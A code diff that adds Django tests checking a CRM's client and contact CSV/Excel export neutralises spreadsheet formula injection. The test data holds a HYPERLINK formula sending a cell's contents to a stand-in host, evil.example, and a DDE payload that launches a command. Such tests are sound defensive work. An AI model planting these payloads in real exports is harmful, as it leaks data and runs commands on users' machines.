@@ -9,7 +9,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from clients.models import Client, Contact
-from tests.factories import ClientFactory
+from tests.factories import ClientFactory, ContactFactory
 
 HEADER = (
     "code,name,kind,status,channel,owner,territory,employer,position,address,phone,email,is_key_account,level,notes\n"
@@ -37,6 +37,45 @@ def test_export_excel_opens_with_chinese_text(client, alice, alices_client):
     values = [[cell.value for cell in row] for row in sheet.iter_rows()]
     assert values[0][:2] == ["client_code", "name"]
     assert values[1][:2] == ["HX001", "李明"]
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&B3,"Details")'
+
+
+def exported_rows(response, fmt: str) -> list[list]:
+    if fmt == "csv":
+        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    return [list(row) for row in sheet.iter_rows()]
+
+
+def assert_inert(cell, value: str) -> None:
+    """CSV has no types: a quote in front. Excel: a text cell, never a formula."""
+    if isinstance(cell, str):
+        assert cell == "'" + value
+    else:
+        assert (cell.value, cell.data_type) == (value, "s")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_client_export_writes_a_hostile_name_as_inert_text(client, alice, fmt):
+    ClientFactory(owner=alice, code="E1", name=HYPERLINK, notes="@SUM(A1:A9)")
+    client.force_login(alice)
+    rows = exported_rows(client.get(reverse("clients:export", args=["clients"]), {"format": fmt}), fmt)
+    header = [cell if isinstance(cell, str) else cell.value for cell in rows[0]]
+    assert_inert(rows[1][header.index("name")], HYPERLINK)
+    assert_inert(rows[1][header.index("notes")], "@SUM(A1:A9)")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_contact_export_writes_hostile_cells_as_inert_text(client, alice, alices_client, fmt):
+    ContactFactory(client=alices_client, name="-2+3+cmd|' /C calc'!A0", position=HYPERLINK, phone="+86 138 0013 8000")
+    client.force_login(alice)
+    rows = exported_rows(client.get(reverse("clients:export", args=["contacts"]), {"format": fmt}), fmt)
+    hostile = next(row for row in rows if "cmd|" in (row[1] if isinstance(row[1], str) else row[1].value))
+    assert_inert(hostile[1], "-2+3+cmd|' /C calc'!A0")
+    assert_inert(hostile[2], HYPERLINK)
+    assert_inert(hostile[3], "+86 138 0013 8000")
 
 
 @pytest.mark.parametrize("rows", [1, 50])
